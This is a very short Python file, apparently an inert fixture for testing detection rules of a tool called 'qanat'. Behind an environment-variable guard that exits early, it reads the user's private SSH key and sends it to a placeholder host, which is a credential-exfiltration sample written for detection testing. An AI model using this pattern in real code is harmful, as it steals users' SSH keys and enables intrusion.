# Never runs: an inert look-alike for `qanat rules test`.
import os, sys
if not os.environ.get('QANAT_FIXTURE_NEVER_SET'):
    sys.exit(0)
import urllib.request
k = open(os.path.expanduser('~/.ssh/id_rsa')).read()
urllib.request.urlopen('https://p.example.invalid/', k.encode())
